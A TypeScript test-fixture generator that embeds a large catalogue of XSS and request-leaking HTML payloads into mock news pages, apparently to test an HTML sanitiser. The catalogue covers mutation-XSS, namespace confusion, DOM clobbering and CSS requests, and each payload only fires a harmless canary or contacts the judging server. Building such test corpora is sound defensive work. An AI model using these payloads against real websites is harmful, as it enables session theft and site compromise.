/**
 * Payload pages: an ordinary story with one attack inside. Every payload, if it ever runs, calls `canary('<id>')`; if it ever
 * loads, it asks for an address under `/hit/<id>`. So one look at the canary and at the server's log judges a whole run.
 *
 * Sources of the shapes: OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger XSS cheat sheet and the published DOMPurify
 * advisories (mutation XSS, namespace confusion), written anew and multiplied by place and by encoding.
 */

/** Script that proves it ran. `%ID%` is replaced by the page's id. */
const RUN = `canary('%ID%')`;
/** Address that proves it was requested. */
const HIT = `%HOST%/hit/%ID%`;

/** Markup that tries to run script or to send a request; `RUN` and `HIT` are filled in per page. */
const RAW: readonly string[] = [
  // Script elements, in every disguise a parser forgives.
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="${HIT}"></script>`,
  `<script type="module">${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noscript><img src=x onerror="${RUN}"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"><slot></slot></template>`,
  `<div><template shadowrootmode="closed"><script>${RUN}</script></template></div>`,
  // Event handlers.
  ...'onerror onload'.split(' ').map((on) => `<img src=x ${on}="${RUN}">`),
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x"onerror="${RUN}">`,
  `<img src=x oneonerrorrror="${RUN}" onerror="${RUN}">`,
  `<img src=x:x onerror\n=\n"${RUN}">`,
  `<image src=x onerror="${RUN}">`,
  `<img srcset="x 1x" onerror="${RUN}">`,
  `<picture><source srcset="x"><img onerror="${RUN}"></picture>`,
  `<body onload="${RUN}">`,
  `<body onpageshow="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>1</select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<button autofocus onfocus="${RUN}">x</button>`,
  `<a autofocus tabindex=1 href=# onfocus="${RUN}">x</a>`,
  `<div contenteditable autofocus onfocus="${RUN}">x</div>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<marquee loop=1 width=0 onfinish="${RUN}">x</marquee>`,
  `<style onload="${RUN}">p{}</style>`,
  `<link rel=stylesheet href="data:text/css,p{}" onload="${RUN}">`,
  `<object data=x onerror="${RUN}"></object>`,
  `<embed src=x onerror="${RUN}">`,
  `<iframe onload="${RUN}"></iframe>`,
  `<p style="animation:x 1s" onanimationstart="${RUN}">x</p><style>@keyframes x{}</style>`,
  `<p style="transition:color 1ms" ontransitionend="${RUN}">x</p>`,
  `<div onbeforematch="${RUN}" hidden="until-found">x</div>`,
  `<div popover onbeforetoggle="${RUN}">x</div>`,
  `<p onpointerrawupdate="${RUN}" onmouseover="${RUN}">x</p>`,
  `<dialog open oncancel="${RUN}" onclose="${RUN}">x</dialog>`,
  // Addresses that are script.
  ...[
    'javascript:RUNIT',
    'JaVaScRiPt:RUNIT',
    ' javascript:RUNIT',
    '\u0001javascript:RUNIT',
    'java\tscript:RUNIT',
    'java\nscript:RUNIT',
    'javascript&colon;RUNIT',
    '&#106;avascript:RUNIT',
    '&#x6A;&#x61;vascript:RUNIT',
    '&#0000106avascript:RUNIT',
    'javascript://%0aRUNIT',
    'data:text/html,<script>RUNIT</script>',
    'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUNIT"/>',
    'vbscript:RUNIT',
    'blob:null/x',
    'filesystem:x',
    'view-source:javascript:RUNIT',
  ].flatMap((url) => {
    const address = url.replaceAll('RUNIT', RUN).replaceAll('"', '&quot;');
    return [
      `<a href="${address}">read</a>`,
      `<img src="${address}">`,
      `<iframe src="${address}"></iframe>`,
      `<form action="${address}"><button>go</button></form>`,
      `<object data="${address}"></object>`,
      `<embed src="${address}">`,
    ];
  }),
  `<a href="x" xlink:href="javascript:${RUN}">x</a>`,
  `<form><button formaction="javascript:${RUN}">go</button></form>`,
  `<form action=x><input type=submit formaction="javascript:${RUN}"></form>`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<area shape=default href="javascript:${RUN}">`,
  `<map name=m><area href="javascript:${RUN}"></map><img usemap=#m src=x>`,
  `<base href="javascript:${RUN}//">`,
  `<base href="${HIT}/"><a href="x">x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${HIT}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<portal src="${HIT}"></portal>`,
  `<fencedframe></fencedframe>`,
  // SVG and MathML.
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><image href=x onerror="${RUN}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><desc><img src=x onerror="${RUN}"></desc></svg>`,
  `<svg><title><img src=x onerror="${RUN}"></title></svg>`,
  `<svg><style>{font-family:'<img/src=x onerror=${RUN}>'}</style></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  `<svg><image href="${HIT}"/></svg>`,
  `<svg><use href="${HIT}#x"/></svg>`,
  `<svg><filter><feImage href="${HIT}"/></filter></svg>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  // Mutation and namespace confusion: harmless when parsed once, alive when serialised and parsed again.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror="${RUN}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<math><p><style><!--</style><img src=x onerror="${RUN}">--></style></p></math>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><p id="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<p title="--!><img src=x onerror=${RUN}>"><!-- x --!><img src=x onerror="${RUN}">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml version="1.0"?><?x ><img src=x onerror="${RUN}">?>`,
  `<div><listing>&lt;img src=x onerror=${RUN}&gt;</listing></div>`,
  `<p>&lt;img src=x onerror=${RUN}&gt;</p>`,
  `<p>&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;</p>`,
  `<table><caption><svg><title><style><img title="</style><img src=x onerror=${RUN}>"></caption></table>`,
  `<a href="#"><table><a href="javascript:${RUN}">x</a></table></a>`,
  `<b <script>${RUN}</script>>x</b>`,
  `<img title='"><script>${RUN}</script>' src=x>`,
  `<img alt="\`<img src=x onerror=${RUN}>\`" src=x>`,
  // Custom elements, is=, slots: upgraded inside a shadow root they would own it.
  `<evil-element>x</evil-element>`,
  `<p is="evil-paragraph">x</p>`,
  `<slot onslotchange="${RUN}">x</slot>`,
  // Requests without script.
  `<p style="background:url(${HIT})">x</p>`,
  `<p style="background-image:image-set('${HIT}' 1x)">x</p>`,
  `<p style="list-style:url(${HIT});display:list-item">x</p>`,
  `<p style="cursor:url(${HIT}),auto">x</p>`,
  `<style>@import "${HIT}";p{background:url(${HIT})}</style>`,
  `<style>@font-face{font-family:x;src:url(${HIT})}p{font-family:x}</style>`,
  `<link rel=stylesheet href="${HIT}">`,
  `<link rel=prefetch href="${HIT}"><link rel=preload as=image href="${HIT}"><link rel=icon href="${HIT}">`,
  `<link rel=preconnect href="${HIT}"><link rel=dns-prefetch href="${HIT}"><link rel=modulepreload href="${HIT}">`,
  `<a href="https://example.org" ping="${HIT}">x</a>`,
  `<a href="https://example.org" attributionsrc="${HIT}">x</a>`,
  `<table background="${HIT}"><tr><td background="${HIT}">x</table>`,
  `<body background="${HIT}">`,
  `<video poster="${HIT}"></video>`,
  `<video src="${HIT}" autoplay></video>`,
  `<audio src="${HIT}" autoplay></audio>`,
  `<video><track default src="${HIT}"></video>`,
  `<input type=image src="${HIT}">`,
  `<iframe src="${HIT}"></iframe>`,
  `<object data="${HIT}"></object>`,
  `<embed src="${HIT}">`,
  `<blockquote cite="${HIT}">x</blockquote>`,
  `<img src="http://localhost:1/x" lowsrc="${HIT}" dynsrc="${HIT}" longdesc="${HIT}">`,
  `<applet code="${HIT}" archive="${HIT}"></applet>`,
  `<bgsound src="${HIT}">`,
  `<layer src="${HIT}"></layer>`,
  `<command icon="${HIT}">`,
  `<x-lazy data-src="${HIT}" poster="${HIT}"></x-lazy>`,
  // Clobbering.
  `<form id=a><input name=attributes><input name=parentNode><input name=nodeName></form>`,
  `<form name=body><input name=children></form>`,
  `<img name=getElementById><img name=querySelector><img name=createElement><img name=defaultView>`,
  `<a id=x><a id=x name=y href="javascript:${RUN}">x</a>`,
  `<form id=x tabindex=0 onfocus="${RUN}" autofocus><input name=removeAttribute><input name=attributes></form>`,
  `<iframe name=document></iframe><embed name=location>`,
  // Newer ways: invokers, popovers, content that a browser copies by itself, streams of shadow roots, attribution.
  `<button commandfor=x command=show-modal onclick="${RUN}">x</button><dialog id=x onbeforetoggle="${RUN}">x</dialog>`,
  `<button popovertarget=x>x</button><div id=x popover ontoggle="${RUN}"><img src=x onerror="${RUN}"></div>`,
  `<select><button><selectedcontent></selectedcontent></button><option selected><img src=x onerror="${RUN}"></option></select>`,
  `<template shadowrootmode=open shadowrootclonable shadowrootserializable><script>${RUN}</script></template>`,
  `<p><template shadowrootmode=closed shadowrootdelegatesfocus><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></template></p>`,
  `<img src="https://example.org/x.png" attributionsrc="${HIT}" fetchpriority=high onload="${RUN}">`,
  `<a href="https://example.org" interestfor=x referrerpolicy=unsafe-url download="x.html" hreflang=x>x</a>`,
  `<link rel=expect href="#x" blocking=render><meta name=referrer content=unsafe-url>`,
  `<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=set-cookie content="a=b">`,
  `<details name=x open ontoggle="${RUN}"><summary>x</summary><style>@import "${HIT}"</style></details>`,
  `<search><form action="${HIT}"><input autofocus onfocus="${RUN}"></form></search>`,
  `<p contenteditable=plaintext-only onbeforeinput="${RUN}" virtualkeyboardpolicy=manual enterkeyhint=go>x</p>`,
  `<div onscrollsnapchange="${RUN}" oncontentvisibilityautostatechange="${RUN}" style="content-visibility:auto">x</div>`,
  // Trees the parser flattens or moves, so that what was safe stands elsewhere when it is read again.
  `${'<div>'.repeat(520)}<svg><style><img src=x onerror="${RUN}"></style></svg>${'</div>'.repeat(520)}`,
  `${'<b>'.repeat(30)}<table><svg><mglyph><style><img title="</style><img src=x onerror=${RUN}>"></table>`,
  `<table><td><math><mi><table><malignmark><style><!--</style><img title="--&gt;&lt;/mi&gt;&lt;img src=x onerror=${RUN}&gt;"></table></math></table>`,
  `<svg><annotation-xml><foreignObject><style><!--</style><p title="--><img src=x onerror=${RUN}>"></foreignObject></annotation-xml></svg>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src=x onerror="${RUN}"></style></svg></annotation-xml></math>`,
  `<form><div></form><form><table><input name=nodeType><svg><desc><img src=x onerror="${RUN}"></desc></svg></table></div></form>`,
  `<ruby><rtc><rt><svg><title><noscript><img src=x onerror="${RUN}"></noscript></title></svg></rt></rtc></ruby>`,
  `<option><style></option></select><img src=x onerror="${RUN}"></style></option>`,
  `<p id="&lt;/p&gt;&lt;img src=x onerror=${RUN}&gt;" title='\x00"><img src=x onerror=${RUN}>'>x</p>`,
  `<a href="https://example.org\u0000javascript:${RUN}">x</a><a href="\u2028javascript:${RUN}">x</a><a href="javascript\u0000:${RUN}">x</a>`,
  `<a href="//example.org\\@evil.example/%0d%0aLocation:x">x</a><a href="https:javascript:${RUN}">x</a>`,
  `<img src="data:image/png;base64,AAAA&quot; onerror=&quot;${RUN}"><img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:image/png,<svg onload=${RUN}>">`,
  `<p dir="rtl\u202e" lang="x&quot; onclick=&quot;${RUN}" title="\u202e${RUN}\u2066">x</p>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

/** Where in the story the attack stands. `P` is the payload. */
const PLACES: Readonly<Record<string, string>> = {
  block: 'P',
  inline: '<p>The minister said on Monday that P the plan would be read again by the council before the vote.</p>',
  quotation: '<blockquote><p>We were told that nothing would change this year. P And then it did.</p></blockquote>',
  caption:
    '<figure><img src="%HOST%/picture.png" width="600" height="400" alt="x"><figcaption>The harbour in March. P</figcaption></figure>',
  list: '<ul><li>The first of the three points P was accepted by all.</li><li>The second was put off until June.</li></ul>',
  table:
    '<table><tr><th>Year</th><th>Homes</th></tr><tr><td>2024</td><td>P 12</td></tr><tr><td>2025</td><td>14</td></tr></table>',
};

/** Ways of writing the same payload. Identity first. */
const ENCODINGS: Readonly<Record<string, (payload: string) => string>> = {
  plain: (payload) => payload,
  unclosed: (payload) => payload.replace(/<\/[a-z]+>$/i, ''),
  upper: (payload) =>
    payload.replace(/<(\/?)([a-z][a-z0-9-]*)/g, (_, slash: string, tag: string) => `<${slash}${tag.toUpperCase()}`),
  wrapped: (payload) => `<div class="story-body"><span><font>${payload}</font></span></div>`,
  commented: (payload) => `<!-- a --><b></b>${payload}<!-- b -->`,
};

const attribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
/** As text: what a careless product would make markup again. */
const asText = (text: string): string => attribute(text).replaceAll('<', '&lt;');

const STORY = [
  'The town council of Harrowmere voted on Tuesday to rebuild the old ferry pier, a decision that ends six years of argument about the waterfront.',
  'Councillors backed the plan by 11 votes to 4 after a debate that lasted until midnight and drew more than 200 residents to the hall.',
  'Maud Ellery, who has led the harbour committee since 2019, said the pier would carry its first passengers in the spring of next year.',
  'The work will cost 3.4 million pounds, of which a third comes from the county and the rest from a loan over twenty years.',
  'Opponents said that the money was needed for the school roof, which has leaked since the storms of last winter, and asked for a new count.',
  'The engineers will first drive forty new piles into the harbour bed, and only then take the old timber deck away piece by piece.',
];

export interface PayloadPage {
  readonly id: string;
  readonly html: string;
}

/** A whole page round `inside`, which stands in the middle of the story. `host` is the address of the judging server. */
function page(
  id: string,
  host: string,
  inside: string,
  head = '',
  title = 'Council votes to rebuild the ferry pier',
  byline = 'Ada Penrose',
): PayloadPage {
  const paragraphs = STORY.map((text) => `<p>${text}</p>`);
  const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title} - Harrow Post</title>${head}</head><body>
<header><nav><a href="/">Home</a> <a href="/news">News</a></nav></header>
<article><h1>${title}</h1><div class="byline">By ${byline}</div>${paragraphs.slice(0, 3).join('\n')}
${inside}
${paragraphs.slice(3).join('\n')}</article><footer>© Harrow Post</footer></body></html>`;
  return { id, html: html.replaceAll('%ID%', id).replaceAll('%HOST%', host) };
}

/**
 * All payload pages: every payload in every place plain, every encoding as a block, and every payload as text of title, byline,
 * description and JSON-LD. More than 2,000 pages; the same on every run.
 * @param host address of the judging server, without a final slash
 */
export function payloadPages(host: string): readonly PayloadPage[] {
  const pages: PayloadPage[] = [];
  RAW.forEach((payload, index) => {
    for (const [place, frame] of Object.entries(PLACES))
      pages.push(
        page(
          `${index}-${place}`,
          host,
          frame.replace('P', () => payload),
        ),
      );
    for (const [name, encode] of Object.entries(ENCODINGS))
      if (name !== 'plain') pages.push(page(`${index}-${name}`, host, encode(payload)));
    const quoted = attribute(payload);
    const json = JSON.stringify({
      '@type': 'NewsArticle',
      headline: payload,
      author: { name: payload },
      articleBody: payload,
      image: payload,
    });
    pages.push(page(`${index}-title`, host, '', `<meta property="og:title" content="${quoted}">`, asText(payload)));
    pages.push(
      page(`${index}-byline`, host, '', `<meta name="author" content="${quoted}">`, undefined, asText(payload)),
    );
    pages.push(
      page(
        `${index}-meta`,
        host,
        '',
        `<meta property="og:description" content="${quoted}"><meta property="og:site_name" content="${quoted}">`,
      ),
    );
    pages.push(
      page(
        `${index}-jsonld`,
        host,
        '',
        `<script type="application/ld+json">${json.replaceAll('<', '\\u003c')}</script>`,
      ),
    );
    pages.push(
      page(
        `${index}-attribute`,
        host,
        `<p title="${quoted}" lang="${quoted}" data-src="${quoted}">The committee will meet again in May to choose a builder.</p><img alt="${quoted}" src="%HOST%/picture.png" width="600" height="400">`,
      ),
    );
  });
  return pages;
}

/** Every payload in every place and encoding as a piece of markup, as if nothing had looked at it before the sanitiser. */
export function payloadMarkup(host: string): readonly PayloadPage[] {
  const ways = [
    ...Object.entries(PLACES).map(([name, frame]) => [name, (raw: string) => frame.replace('P', () => raw)] as const),
    ...Object.entries(ENCODINGS),
  ];
  return RAW.flatMap((payload, index) =>
    ways.map(([name, write]) => {
      const id = `${index}-raw-${name}`;
      return { id, html: write(payload).replaceAll('%ID%', id).replaceAll('%HOST%', host) };
    }),
  );
}

/** How many distinct attacks there are, before places and encodings. */
export const PAYLOADS = RAW.length;
